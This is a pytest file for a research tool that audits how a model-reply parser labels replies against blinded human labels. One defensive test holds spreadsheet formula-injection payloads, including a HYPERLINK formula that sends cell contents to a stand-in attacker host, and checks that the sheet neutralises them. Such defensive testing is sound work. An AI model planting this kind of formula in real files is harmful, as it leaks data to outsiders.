"""Reply audit (issue 29 part 4): a run's parser measured on its own replies. Blinded seeded sheets, no overwrite of a key or a
filled sheet, collect refuses edited replies, the agreement numbers, and a scripted run whose next report shows the audit row."""
import json, re
import pandas as pd
import pytest
from silverspoon.core import DataError, ParamsError, load_params, GenerationParams
from silverspoon.instruments.parse import Parsed, ReplyGate, instrument_validity, gather_instruments, INSTRUMENT_COLUMNS
from silverspoon.stats import proportion_ci
from silverspoon.instruments.audit import (write_audit_sheet, collect_audit, audit_validity, merge_instruments, reply_sha256, StaleAudit,
                               AUDIT_INSTRUMENT, NON_ANSWER_LABELS)


def write_answers(run_dir, rows:list[tuple])->pd.DataFrame:
    "A small answers.csv as `Report.answers` writes it: rows of (status, value, reply); rule and checks are parser-only marks."
    run_dir.mkdir(parents=True, exist_ok=True)
    a = pd.DataFrame([dict(item_id=f"item-{i}", part="all", status=s, value=v, rule=f"RULE-{i}", checks="", reply=r) for i, (s, v, r) in enumerate(rows)])
    a.to_csv(run_dir/"answers.csv", index=False)
    return a


ROWS = [("answer", "Person 1", "P1 is wrong, clearly."), ("answer", "other", "<|im_end|>\n<|im_start|>assistant"),
        ("answer", "Person 2", "Person 2."), ("refusal", None, "I cannot judge people."), ("unparseable", None, "Hmm, both and neither."),
        ("not_an_answer", None, "<|im_start|>user"), ("answer", "other", "xyzzy"), ("answer", "Person 1", "Person 1 did wrong."),
        ("failed", None, None), ("answer", "other", "Banana"), ("answer", "Person 2", "It is Person 2 who was wrong."), ("answer", "other", "lorem ipsum dolor")]


def human(reply:str)->str:
    "A human's label, read from the reply alone (blind): what the reply answers, or why it is no answer."
    if "1" in reply and "Person" in reply or reply.startswith("P1"): return "Person 1"
    if "Person 2" in reply: return "person 2 "        # case and spaces do not matter
    if "cannot" in reply: return "refusal"
    if "both" in reply: return "unparseable"
    return "not_an_answer"


def fill(sheet_path, out, label=human):
    s = pd.read_csv(sheet_path, dtype=str, keep_default_na=False)
    s["label"] = [label(r) for r in s.reply]
    s.to_csv(out, index=False)
    return s


def test_sheet_is_seeded_and_blinded(tmp_path):
    run = tmp_path/"reports"/"normative"/"junk"; write_answers(run, ROWS)
    a = write_audit_sheet(run, k=6, seed=4, out_dir=tmp_path/"a", vocabulary=("P1", "other", "both", "neither"))   # normative's answers, as `audit sheet` passes them
    b = write_audit_sheet(run, k=6, seed=4, out_dir=tmp_path/"b", vocabulary=("P1", "other", "both", "neither"))
    c = write_audit_sheet(run, k=6, seed=5, out_dir=tmp_path/"c", vocabulary=("P1", "other", "both", "neither"))
    sheet = pd.read_csv(a["sheet"], dtype=str, keep_default_na=False)
    assert list(sheet.columns) == ["row", "prompt", "reply", "label"] and (sheet.label == "").all()
    assert sheet.equals(pd.read_csv(b["sheet"], dtype=str, keep_default_na=False))                       # seeded
    assert a["key"].read_bytes() == b["key"].read_bytes() and a["key"].read_bytes() != c["key"].read_bytes()
    key = pd.read_csv(a["key"], dtype=str, keep_default_na=False)
    assert list(key.columns) == ["row", "answer_row", "item_id", "part", "reply_sha256", "status", "value"]
    assert (key.status != "failed").all() and key.reply_sha256.tolist() == [reply_sha256(r) for r in sheet.reply]
    about = json.loads(a["about"].read_text())
    assert (about["study"], about["run"], about["k"], about["seed"], about["n_drawn_from"]) == ("normative", "junk", 6, 4, 11)
    assert about["labels"] == ["both", "neither", "other", "p1", "person 1", "person 2", *NON_ANSWER_LABELS]   # the study's whole vocabulary and what the parser read
    # blinded: nothing per reply says what the parser read; every reply offers the same choices
    page, blob = a["form"].read_text(), a["sheet"].read_text()
    for text in (page, blob):
        assert not any(f"RULE-{i}" in text or f"item-{i}" in text for i in range(len(ROWS)))
        assert "status" not in text and "answer_row" not in text and "sha256" not in text
    items = re.findall(r'<div class="item"><b>(R\d+)</b><pre>.*?</pre>(.*?)</div>', page, flags=re.S)
    assert [r for r, _ in items] == sheet.row.tolist()
    assert all(re.findall(r'value="([^"]*)"', buttons) == about["labels"] for _, buttons in items)
    assert "&lt;|im_end|&gt;" in page or "<|im_end|>" not in "".join(sheet.reply)                       # replies escaped


def test_default_folder_is_audits_study_run(tmp_path, monkeypatch):
    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))
    run = tmp_path/"reports"/"normative"/"junk"; write_answers(run, ROWS)
    w = write_audit_sheet(run, k=3)
    assert w["key"] == tmp_path/"audits"/"normative"/"junk"/"key.csv" and w["form"].is_file()


def test_refuses_to_overwrite_a_key_or_a_filled_sheet(tmp_path):
    run = tmp_path/"reports"/"normative"/"junk"; write_answers(run, ROWS)
    w = write_audit_sheet(run, k=6, seed=0, out_dir=tmp_path/"a")
    key = w["key"].read_bytes()
    with pytest.raises(DataError, match=r"key\.csv: an audit sample was already drawn here.*Fix: collect it \(`silverspoon audit collect"):
        write_audit_sheet(run, k=6, seed=1, out_dir=tmp_path/"a")
    assert w["key"].read_bytes() == key                                                                  # untouched
    fill(w["sheet"], w["sheet"])                                                                          # labels in the folder's sheet
    w["key"].unlink()
    with pytest.raises(DataError, match=r"sheet\.csv: has 6 labels filled in; it would be overwritten"):
        write_audit_sheet(run, k=6, seed=1, out_dir=tmp_path/"a")
    assert pd.read_csv(w["sheet"], dtype=str, keep_default_na=False).label.ne("").all()
    collect = write_audit_sheet(run, k=6, seed=0, out_dir=tmp_path/"b")
    fill(collect["sheet"], collect["sheet"]); collect_audit(tmp_path/"b")
    collect["key"].unlink(); pd.read_csv(collect["sheet"]).assign(label="").to_csv(collect["sheet"], index=False)
    with pytest.raises(DataError, match=r"audit\.csv: an audit was already collected here"):
        write_audit_sheet(run, k=6, seed=0, out_dir=tmp_path/"b")
    empty = write_audit_sheet(run, k=6, seed=0, out_dir=tmp_path/"c"); empty["key"].unlink()
    write_audit_sheet(run, k=5, seed=2, out_dir=tmp_path/"c")                                             # an unfilled sheet, no key: drawn anew
    assert len(pd.read_csv(tmp_path/"c"/"sheet.csv")) == 5


def test_bad_input(tmp_path):
    run = tmp_path/"reports"/"normative"/"junk"
    with pytest.raises(DataError, match=r"answers\.csv: not found.*Report\.answers"): write_audit_sheet(run, out_dir=tmp_path/"a")
    write_answers(run, ROWS)
    with pytest.raises(ParamsError, match=r"--k 0: draw at least one reply"): write_audit_sheet(run, k=0, out_dir=tmp_path/"a")
    with pytest.raises(ParamsError, match=r"--k 12: the run has only 11 replies with a text \(1 failed"): write_audit_sheet(run, k=12, out_dir=tmp_path/"a")
    assert not (tmp_path/"a").exists()                                                                    # nothing written on an error
    pd.read_csv(run/"answers.csv").drop(columns="reply").to_csv(run/"answers.csv", index=False)
    with pytest.raises(DataError, match=r"no `reply` column: this run wrote no reply texts"): write_audit_sheet(run, out_dir=tmp_path/"a")


def test_collect_refuses_an_edited_reply_or_another_draw(tmp_path):
    run = tmp_path/"reports"/"normative"/"junk"; write_answers(run, ROWS)
    w = write_audit_sheet(run, k=6, seed=0, out_dir=tmp_path/"a")
    s = fill(w["sheet"], tmp_path/"filled.csv")
    s.loc[2, "reply"] = s.reply[2].replace("\n", " ") + "."
    s.to_csv(tmp_path/"edited.csv", index=False)
    with pytest.raises(DataError, match=r"edited\.csv: row 4 \('R03'\): the reply text differs from the reply drawn"):
        collect_audit(tmp_path/"a", [tmp_path/"edited.csv"])
    other = write_audit_sheet(run, k=6, seed=9, out_dir=tmp_path/"other")                                 # a sheet of another draw, same codes
    fill(other["sheet"], tmp_path/"other-filled.csv")
    with pytest.raises(DataError, match=r"the reply text differs"): collect_audit(tmp_path/"a", [tmp_path/"other-filled.csv"])
    assert not (tmp_path/"a"/"audit.csv").exists()
    crlf = fill(w["sheet"], tmp_path/"crlf.csv"); crlf["reply"] = crlf.reply.str.replace("\n", "\r\n")    # a spreadsheet's line ends are the same text
    crlf.to_csv(tmp_path/"crlf.csv", index=False)
    assert collect_audit(tmp_path/"a", [tmp_path/"crlf.csv"])[0].n.item() == 6
    with pytest.raises(DataError, match=r"no labels; fill the `label` column"): collect_audit(tmp_path/"a")


def test_agreement_numbers(tmp_path):
    run = tmp_path/"reports"/"normative"/"junk"; write_answers(run, ROWS)
    w = write_audit_sheet(run, k=11, seed=0, out_dir=tmp_path/"a")                                        # every reply with a text
    fill(w["sheet"], tmp_path/"h1.csv")
    summary, audit = collect_audit(tmp_path/"a", [tmp_path/"h1.csv"])
    # the parser's 4 errors: junk replies (template tokens, 'xyzzy', 'Banana', 'lorem ipsum dolor') read as "other"; the gate had caught "<|im_start|>user"
    r = summary.iloc[0]
    assert (r.instrument, r.measured_on, r.n, r.n_agree) == (AUDIT_INSTRUMENT, "this run", 11, 7)
    assert (r.agreement, r.ci_low, r.ci_high) == pytest.approx(proportion_ci(7, 11, method="beta"))   # validity: Clopper-Pearson (the policy)
    assert sorted(audit[audit.agree.eq(False)].parser) == ["other"]*4 and set(audit[audit.agree.eq(False)].human) == {"not_an_answer"}
    on_disk = pd.read_csv(tmp_path/"a"/"audit_summary.csv")
    assert list(on_disk.columns) == INSTRUMENT_COLUMNS and on_disk.n_agree.item() == 7
    # a second annotator who differs on one reply and leaves one empty: the first is disputed and counts as a disagreement
    s2 = fill(w["sheet"], tmp_path/"h2.csv")
    first_p1 = s2.index[s2.label.eq("Person 1")][0]; s2.loc[first_p1, "label"] = "unparseable"; s2.loc[s2.index[-1], "label"] = ""
    s2.to_csv(tmp_path/"h2.csv", index=False)
    summary, audit = collect_audit(tmp_path/"a", [tmp_path/"h1.csv", tmp_path/"h2.csv"])
    r = summary.iloc[0]
    assert (r.n, r.n_agree, r.n_no_reference) == (11, 6, 0) and "1 disputed between annotators counted as disagreements" in r.note
    assert audit.set_index("row").loc[s2.row[first_p1], "agree"] == False                                # never dropped (0.80 -> 1.00 on a real audit)
    assert audit.set_index("row").loc[s2.row[first_p1], "human_labels"] == "person 1|unparseable"
    assert audit.n_labels.tolist().count(1) == 1                                                          # the row the second left empty


def test_gather_instruments_reads_old_tables_as_borrowed(tmp_path):
    (tmp_path/"stop"/"old").mkdir(parents=True); (tmp_path/"stop"/"new").mkdir(parents=True)
    row = instrument_validity("faithful parser", "parser", [1, 0], [1, 1], "a hand-labelled set")[0]
    row.drop(columns="measured_on").to_csv(tmp_path/"stop"/"old"/"instruments.csv", index=False)
    merge_instruments(row, instrument_validity("audit", "parser", [1], [1], "x", measured_on="this run")[0]).to_csv(tmp_path/"stop"/"new"/"instruments.csv", index=False)
    g = gather_instruments(tmp_path)
    assert g[["run", "measured_on"]].values.tolist() == [["new", "reference"], ["new", "this run"], ["old", "reference"]]


# --- end to end: a scripted model through the report path, audited, and the report run again --------------------------------

JUNK = "<|im_end|>\n<|im_start|>assistant"
SCRIPT = {**{f"q{i}": JUNK for i in range(10)}, **{f"q{i}": "Person 1 is wrong." for i in range(10, 15)},
          **{f"q{i}": "Person 2." for i in range(15, 18)}, "q18": "I cannot judge that.", "q19": "Person 2, clearly."}


def bare_answer(reply)->Parsed:
    "The old bare-answer rule of the issue: anything that names no party is 'other'."
    if reply is None: return Parsed("failed", None, "no reply")
    if "Person 1" in reply: return Parsed("answer", "Person 1", "names P1")
    if "Person 2" in reply: return Parsed("answer", "Person 2", "names P2")
    if "cannot" in reply: return Parsed("refusal", None, "refusal phrase")
    return Parsed("answer", "other", "bare answer")


def scripted_report(out_dir, gate:ReplyGate, script=SCRIPT, instruments_first=False):
    "One run of a scripted model through the report path: generate, screen, parse, `Report.answers`, `Report.instruments` (a borrowed row)."
    from silverspoon.engine.backends.base import GenRequest
    from silverspoon.studies.report import Report
    from silverspoon.engine.backends.scripted import ScriptedBackend
    params = load_params(dict(study="normative", run="scripted-junk", model=dict(backend="scripted", id="text:x")))
    backend = ScriptedBackend(script, fail_on=("q7",))
    reqs = [GenRequest(f"q{i}", [{"role": "user", "content": f"Question {i}: who was wrong, Person 1 or Person 2?"}]) for i in range(20)]
    gens = backend.generate(reqs, GenerationParams())
    replies = [g.text for g in gens]
    screen = gate.screen(replies, prompts=[r.messages[-1]["content"] for r in reqs], finish_reasons=[g.finish_reason for g in gens],
                         items=[r.item_id for r in reqs])
    parsed = gate.apply([bare_answer(r) for r in replies], screen)
    rep = Report(params, out_dir)
    borrowed = instrument_validity("normative answer parser", "parser", ["a"]*50, ["a"]*48 + ["b"]*2, "64 hand-labelled replies (SmolLM2)")[0]
    if instruments_first: rep.instruments(borrowed)
    rep.answers(parsed, screen, item_ids=[r.item_id for r in reqs], replies=replies, gate=gate)
    if not instruments_first: rep.instruments(borrowed)
    return pd.read_csv(out_dir/"instruments.csv")


def test_scripted_run_audit_and_report(tmp_path, monkeypatch, cli):
    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))                                                 # audits/ of a project in tmp
    out = tmp_path/"reports"/"normative"/"scripted-junk"
    no_gate = ReplyGate(checks=())
    inst = scripted_report(out, no_gate)
    assert inst.measured_on.tolist() == ["reference"] and inst.agreement.item() == pytest.approx(0.96)   # the borrowed figure only
    r = cli("audit", "sheet", out, "--k", "15", "--seed", "3")
    assert r.returncode == 0, r.stderr
    folder = tmp_path/"audits"/"normative"/"scripted-junk"
    assert "key.csv" in r.stdout and (folder/"form.html").is_file()
    assert {"both", "neither", "other", "p1"} <= set(json.loads((folder/"audit.json").read_text())["labels"])   # normative's whole vocabulary (Study.answer_labels)
    sheet = fill(folder/"sheet.csv", folder/"sheet.csv")
    n_junk = int(sheet.label.eq("not_an_answer").sum())
    assert 0 < n_junk < 15
    r = cli("audit", "collect", folder)
    assert r.returncode == 0, r.stderr
    assert f"{15 - n_junk} of 15 agree" in r.stdout and f"human 'not_an_answer', parser 'other': {n_junk}" in r.stdout
    # the report run again: its instruments table now says what the parser did on this run's replies
    inst = scripted_report(out, no_gate)
    assert inst.measured_on.tolist() == ["reference", "this run"]
    own = inst[inst.measured_on.eq("this run")].iloc[0]
    assert (own.instrument, own.n, own.n_agree) == (AUDIT_INSTRUMENT, 15, 15 - n_junk)
    assert "audits/normative/scripted-junk/audit.csv" in own.reference
    # the same human labels measure a mended parser (the default gate refuses the template tokens): recomputed, all agree
    inst = scripted_report(out, ReplyGate(), instruments_first=True)                                     # the other order: both rows kept
    assert inst.measured_on.tolist() == ["reference", "this run"] and inst.n_agree.tolist()[1] == 15
    # other replies than the audited ones: the audit is stale, not used, and the report says so
    import IPython.display
    shown = []; monkeypatch.setattr(IPython.display, "display", lambda *objs, **kw: shown.extend(objs))   # what the report shows
    inst = scripted_report(out, no_gate, script={**SCRIPT, **{f"q{i}": "Person 1." for i in range(10)}})
    assert inst.measured_on.tolist() == ["reference"]
    assert any("The audit of this run is not used." in str(getattr(o, "data", "")) and "the audit is stale" in str(getattr(o, "data", "")) for o in shown)
    with pytest.raises(StaleAudit, match="not this run's replies any more"):
        audit_validity("normative", "scripted-junk", pd.read_csv(out/"answers.csv", dtype=str, keep_default_na=False))


def test_cli_help_texts(capsys):
    from silverspoon.site.cli import main
    def helptext(*args):
        with pytest.raises(SystemExit) as e: main([*args, "--help"])
        assert e.value.code == 0
        return " ".join(capsys.readouterr().out.split())
    top = helptext()
    assert "audit" in top and "measure a run's parser on its own replies" in top
    a = helptext("audit")
    assert "{sheet,collect}" in a and "measured_on = this run" in a
    s = helptext("audit", "sheet")
    for phrase in ("run_dir", "reports/<study>/<run>", "--k K", "--seed SEED", "--out OUT", "default audits/<study>/<run>/",
                   "never the parser's reading", "refusal, not_an_answer, unparseable", "50% agreement"):
        assert phrase in s, phrase
    c = helptext("audit", "collect")
    for phrase in ("folder", "sheets", "sha256 in key.csv", "status for non-answers, value for answers", "default: <folder>/sheet.csv"):
        assert phrase in c, phrase


# --- issue 50 (5, 7) and issue 51 (B08, B15): an audit a reviewer can trust -------------------------------------------------

def collected(tmp_path, rows=ROWS, k=11, seed=0, study="normative", run="junk"):
    "A run's answers, an audit drawn, filled by `human` and collected under audits/<study>/<run>/ of a project in tmp_path."
    rd = tmp_path/"reports"/study/run; write_answers(rd, rows)
    w = write_audit_sheet(rd, k=k, seed=seed, out_dir=tmp_path/"audits"/study/run, vocabulary=("P1", "other", "both", "neither"))
    fill(w["sheet"], tmp_path/"filled.csv")
    collect_audit(w["key"].parent, [tmp_path/"filled.csv"])
    return w["key"].parent, pd.read_csv(rd/"answers.csv", dtype=str, keep_default_na=False)


def test_audit_csv_set_to_the_parser_is_refused(tmp_path):
    "Hand-setting audit.csv's human column to the parser's labels published 1.00 'measured on this run'; now it is recomputed from the sheets."
    folder, answers = collected(tmp_path)
    good = audit_validity("normative", "junk", answers, tmp_path/"audits")
    assert good.n_agree.item() < good.n.item()
    a = pd.read_csv(folder/"audit.csv", dtype=str, keep_default_na=False)
    a["human"], a["human_labels"], a["agree"] = a.parser, a.parser, "True"
    a.to_csv(folder/"audit.csv", index=False)
    with pytest.raises(DataError, match=r"audit\.csv: row \d+ \('R\d+'\): field human = .*audit\.csv is not what `audit collect` derived.*Fix: run `silverspoon audit collect"):
        audit_validity("normative", "junk", answers, tmp_path/"audits")
    import shutil; shutil.rmtree(folder/"labels")                                                          # an audit.csv without the sheets behind it
    with pytest.raises(DataError, match=r"audit\.csv: the filled sheets it was collected from are not in .*labels"):
        audit_validity("normative", "junk", answers, tmp_path/"audits")


@pytest.mark.parametrize("where", ["key.csv", "audit.csv"])
def test_malformed_answer_row_names_file_row_field_and_fix(tmp_path, where):
    "issue 51 B15: answer_row -1 was `KeyError: -1` failing the whole run."
    folder, answers = collected(tmp_path)
    f = folder/where
    t = pd.read_csv(f, dtype=str, keep_default_na=False); t.loc[1, "answer_row"] = "-1"; t.to_csv(f, index=False)
    with pytest.raises(DataError) as e: audit_validity("normative", "junk", answers, tmp_path/"audits")
    msg = str(e.value)
    assert msg.startswith(f"{f}: row 3 ('R02'): field answer_row = '-1'") and "Fix:" in msg


def test_formula_replies_are_neutralised_in_the_sheet_and_read_back(tmp_path):
    "issue 51 B08: a reply starting with = + - @ tab or CR went unchanged into sheet.csv (spreadsheet formula injection)."
    evil = ['=HYPERLINK("http://attacker.invalid/leak?"&A3,"Person 1")', "+Person 2", "-1+1", "@SUM(A1:A9)", "\tPerson 1", "'=quoted"]   # a CR first is neutralised too (nbs/35_audit.ipynb), but answers.csv cannot keep a bare CR
    rows = [("answer", "other", r) for r in evil]
    rd = tmp_path/"reports"/"normative"/"evil"; write_answers(rd, rows)
    w = write_audit_sheet(rd, k=len(evil), seed=0, out_dir=tmp_path/"a")
    raw = pd.read_csv(w["sheet"], dtype=str, keep_default_na=False)
    assert all(c.startswith("'") for c in raw.reply) and sorted(c[1:] for c in raw.reply) == sorted(evil)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for col in ("prompt", "reply") for c in raw[col])
    fill(w["sheet"], tmp_path/"filled.csv", label=lambda r: "not_an_answer")                              # labels still match the key
    assert collect_audit(tmp_path/"a", [tmp_path/"filled.csv"])[0].n.item() == len(evil)
    dropped = raw.assign(reply=raw.reply.str[1:], label="not_an_answer")                                  # a spreadsheet that dropped the quote
    dropped.to_csv(tmp_path/"dropped.csv", index=False)
    assert collect_audit(tmp_path/"a", [tmp_path/"dropped.csv"])[0].n.item() == len(evil)


def test_sheet_refuses_a_published_report_folder(tmp_path, monkeypatch):
    "issue 51 B15: `audit sheet --out` could write into a published report folder."
    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))
    rd = tmp_path/"reports"/"normative"/"junk"; write_answers(rd, ROWS); (rd/"provenance.json").write_text("{}")
    for out in (rd, rd/"audit", tmp_path/"reports"/"normative"):
        with pytest.raises(DataError, match=r"a published report folder|where published reports live"):
            write_audit_sheet(rd, k=3, out_dir=out)
    assert sorted(p.name for p in rd.iterdir()) == ["answers.csv", "provenance.json"]


def test_seed_minus_one_is_a_one_line_error(tmp_path, cli):
    rd = tmp_path/"reports"/"normative"/"junk"; write_answers(rd, ROWS)
    r = cli("audit", "sheet", rd, "--seed", "-1", "--out", tmp_path/"a")
    assert r.returncode != 0 and "field `--seed` = -1 must be in [0," in r.stderr and "Traceback" not in r.stderr
    assert not (tmp_path/"a").exists()


def test_labels_offered_are_the_study_vocabulary(tmp_path):
    "A parser that only ever read 'P1' offered only 'p1': the annotator could not record the true answer."
    rows = [("answer", "P1", f"P1 is wrong {i}.") for i in range(4)] + [("answer", "P1", "The landlord is wrong.")]
    rd = tmp_path/"reports"/"normative"/"p1only"; write_answers(rd, rows)
    w = write_audit_sheet(rd, k=5, seed=0, out_dir=tmp_path/"a", vocabulary=("P1", "other", "both", "neither"))
    labels = json.loads(w["about"].read_text())["labels"]
    assert {"p1", "other", "both", "neither"} <= set(labels)
    fill(w["sheet"], tmp_path/"f.csv", label=lambda r: "other" if "landlord" in r else "P1")
    s, a = collect_audit(tmp_path/"a", [tmp_path/"f.csv"])
    assert (s.n.item(), s.n_agree.item()) == (5, 4)
    # a study without a declared vocabulary (an open one, e.g. professions): the annotator writes the answer
    rd = tmp_path/"reports"/"professions"/"open"; write_answers(rd, [("answer", "doctor", "She is a doctor."), ("answer", "doctor", "He is a nurse.")])
    w = write_audit_sheet(rd, k=2, seed=0, out_dir=tmp_path/"b")
    fill(w["sheet"], tmp_path/"g.csv", label=lambda r: "nurse" if "nurse" in r else "doctor")
    assert collect_audit(tmp_path/"b", [tmp_path/"g.csv"])[0].n_agree.item() == 1


def test_sheet_shows_the_prompt_beside_each_reply(tmp_path, monkeypatch):
    "issue 50.7: 'The conductor is wrong.' cannot be labelled without the scenario: the sheet and form show the stored prompt."
    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))
    rd = tmp_path/"reports"/"normative"/"junk"; write_answers(rd, ROWS)
    store = tmp_path/"store"/"normative"/"junk.jsonl"; store.parent.mkdir(parents=True)
    recs = [dict(key=str(i), item_id=f"item-{i}", answer=r, messages=[{"role": "user", "content": f"SCENARIO {i}: the conductor and P1. Who is wrong?"}])
            for i, (_, _, r) in enumerate(ROWS) if r is not None]
    store.write_text("".join(json.dumps(r) + "\n" for r in recs))
    (rd/"provenance.json").write_text(json.dumps({"content": {"stores": {"store/normative/junk.jsonl": {"bytes": 1, "sha256": "x"}}}}))
    w = write_audit_sheet(rd, k=6, seed=0, out_dir=tmp_path/"audits"/"normative"/"junk")
    sheet, key = (pd.read_csv(w[n], dtype=str, keep_default_na=False) for n in ("sheet", "key"))
    for p, item in zip(sheet.prompt, key.item_id):
        assert p == f"user: SCENARIO {item.split('-')[1]}: the conductor and P1. Who is wrong?"
    assert "SCENARIO" in w["form"].read_text() and "item-" not in w["form"].read_text()                 # the prompt shown, the item still hidden


def test_editing_an_audit_file_or_a_parser_set_fails_verification(tmp_path, monkeypatch):
    "issue 50.5: audit files and parser sets are in the run's content record; an edit after the run is named by verify."
    import shutil
    from silverspoon.engine import provenance as pv
    from silverspoon.instruments.parse import parser_set
    from silverspoon.core import project_root
    src = project_root()/"tests"/"parser_sets"/"normative.csv"
    monkeypatch.setenv("SILVERSPOON_ROOT", str(tmp_path))
    monkeypatch.setattr(pv, "_INPUTS", {})
    (tmp_path/"tests"/"parser_sets").mkdir(parents=True); shutil.copy(src, tmp_path/"tests"/"parser_sets"/"normative.csv")
    parser_set("normative")
    folder, answers = collected(tmp_path)
    audit_validity("normative", "junk", answers)                                                        # the report's read of its audit
    pins = pv.inputs_read(tmp_path)
    assert "tests/parser_sets/normative.csv" in pins and {"audits/normative/junk/audit.csv", "audits/normative/junk/key.csv",
                                                          "audits/normative/junk/labels/01-filled.csv"} <= set(pins)
    assert pv.input_differences(pins, tmp_path) == []
    s = pd.read_csv(tmp_path/"tests"/"parser_sets"/"normative.csv", dtype=str, keep_default_na=False)
    i, j = s.index[s.expected.eq("P1")][0], s.index[s.expected.eq("other")][0]
    s.loc[i, "expected"], s.loc[j, "expected"] = "other", "P1"; s.to_csv(tmp_path/"tests"/"parser_sets"/"normative.csv", index=False)
    a = pd.read_csv(folder/"audit.csv", dtype=str, keep_default_na=False); a["human"] = a.parser; a.to_csv(folder/"audit.csv", index=False)
    bad = pv.input_differences(pins, tmp_path)
    assert [b.split(":")[0] for b in bad] == ["audits/normative/junk/audit.csv", "tests/parser_sets/normative.csv"]
    assert all("was changed after the run read it" in b and "Fix:" in b for b in bad)
    from silverspoon.engine.provenance import content_record, DIRTY_PATHS
    assert content_record(None, None, (), src.parents[2], stores={}, inputs=pins)["inputs"] == pins and {"audits", "tests/parser_sets"} <= set(DIRTY_PATHS)
